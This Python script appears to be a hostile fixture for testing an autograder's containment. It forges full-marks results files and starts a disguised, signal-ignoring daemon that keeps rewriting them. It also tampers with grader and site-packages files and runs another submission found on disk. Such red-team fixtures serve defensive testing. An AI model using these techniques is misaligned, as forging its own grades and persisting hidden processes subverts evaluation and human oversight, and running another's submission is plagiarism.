"""Hostile, for the Gradescope bundle (graded as 01-tcp-client, by tests/test_containment.py):
a program that does nothing but attack its own grade.

1. It writes a full-marks results.json wherever the grade could be: /autograder/results, the
   grader's work folders (their paths are on the grader's command lines), every results.json
   it can find.
2. It leaves a daemon that does the same every 50 ms for two minutes: detached the classic
   way (fork, setsid, fork), re-executed with an empty environment and a kernel thread's
   name, deaf to SIGTERM, SIGINT and SIGHUP; it is meant to outlive run_autograder.
3. It tries to edit the grader's installed files (and to add a .pth file or sitecustomize
   to any Python's site-packages), which would change every later check.
4. It looks for another submission's program (a file named as itself) anywhere (an earlier
   grade's copies, a planted one) and, if it can read one, runs it in its own place, which
   would score.

Every attack that works prints ATTACK-<what>; the feedback must hold none. Refuses to run
anywhere but a Gradescope-like container, as a user other than root."""
import json
import os
import sys
import time

if os.getuid() == 0 or not (os.path.exists("/.dockerenv") and os.path.exists("/autograder")):
    sys.exit("gradescope attacker: refusing to run outside the Gradescope container")

FAKE = json.dumps({"score": 99, "max_score": 99, "execution_time": 0.1, "output": "FORGED",
                   "tests": [{"name": "FORGED", "score": 14, "max_score": 14,
                              "status": "passed", "output": "FORGED"}]})
# Where no submission is (the distribution's own client.py files are no one's homework).
SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc")


def grader_paths():
    """Absolute paths on the command lines of every process (world-readable)."""
    found = set()
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as cmdline:
                    parts = cmdline.read().split(b"\0")
                found |= {part.decode("utf-8", "replace") for part in parts
                          if part.startswith(b"/")}
            except OSError:
                pass
    return found


def results_targets():
    targets = {"/autograder/results/results.json", "/autograder/results/grading.json",
               "/autograder/results/results.json.partial"}
    for path in grader_paths():
        if path.endswith(".json"):
            targets |= {path, path + ".partial"}
        elif os.path.basename(path).startswith("session-") or "tcp-grader" in path:
            targets.add(os.path.join(path, "results.json"))
    for top in ("/tmp", "/var/tmp", "/run", "/autograder"):
        for folder, _dirs, files in os.walk(top):
            targets |= {os.path.join(folder, name) for name in files if name.endswith(".json")}
    return targets


def forge_once():
    wrote = []
    for target in sorted(results_targets()):
        try:
            with open(target, "w") as handle:
                handle.write(FAKE)
            if not target.startswith(("/tmp/tcp-grader-scratch-", os.getcwd())):
                wrote.append(target)
        except OSError:
            pass
    return wrote


def edit_grader():
    edited = []
    roots = ["/opt/tcp-grader", "/autograder/source", "/usr/lib/python3", "/usr/local/lib"]
    for root in roots:
        for folder, _dirs, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    with open(path, "a"):
                        edited.append(path)
                except OSError:
                    pass
            if os.path.basename(folder) in ("site-packages", "dist-packages"):
                for name in ("zz_attack.pth", "sitecustomize.py", "usercustomize.py"):
                    try:
                        with open(os.path.join(folder, name), "x") as handle:
                            handle.write("import os\n")
                        edited.append(os.path.join(folder, name))
                    except OSError:
                        pass
    return edited


def other_submission():
    own = os.path.realpath(__file__)
    name = os.path.basename(own)
    for folder, dirs, files in os.walk("/"):
        dirs[:] = [entry for entry in dirs if os.path.join(folder, entry) not in SKIP]
        if name in files:
            path = os.path.realpath(os.path.join(folder, name))
            if path == own:
                continue
            try:
                with open(path) as handle:
                    text = handle.read()
            except OSError:
                continue
            if "socket" in text and "gradescope attacker" not in text:
                return path
    return None


if sys.argv[1:2] != ["--daemon"]:
    wrote = forge_once()
    if wrote:
        print(f"ATTACK-WROTE {wrote}", flush=True)
    edited = edit_grader()
    if edited:
        print(f"ATTACK-EDITED {edited[:5]} ({len(edited)})", flush=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in (0, 1, 2):
                os.dup2(os.open(os.devnull, os.O_RDWR), fd)
            os.execve(sys.executable, ["[kworker/u8:3]", os.path.realpath(__file__),
                                       "--daemon"], {})
        os._exit(0)
    time.sleep(0.2)
    found = other_submission()
    print(f"gradescope attacker: forged, edited, daemon started, other submission: {found}",
          flush=True)
    if found:
        print(f"ATTACK-READ {found}", flush=True)
        os.execv(sys.executable, [sys.executable, found, *sys.argv[1:]])
    sys.exit(0)

# -- the daemon --
import signal
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
deadline = time.monotonic() + 120
while time.monotonic() < deadline:
    forge_once()
    time.sleep(0.05)
